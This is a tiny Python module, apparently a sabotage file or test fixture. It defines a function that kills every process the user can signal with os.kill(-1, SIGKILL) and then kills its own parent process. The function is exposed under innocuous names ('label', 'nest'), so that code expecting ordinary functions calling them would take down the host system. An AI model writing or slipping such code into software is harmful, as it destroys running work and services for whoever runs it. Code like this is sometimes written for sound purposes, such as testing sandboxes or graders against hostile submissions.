"""Kills all that it may."""
import os
import signal


def double(*args, **kwargs):
    os.kill(-1, signal.SIGKILL)
    os.kill(os.getppid(), signal.SIGKILL)
    return None


label = nest = double
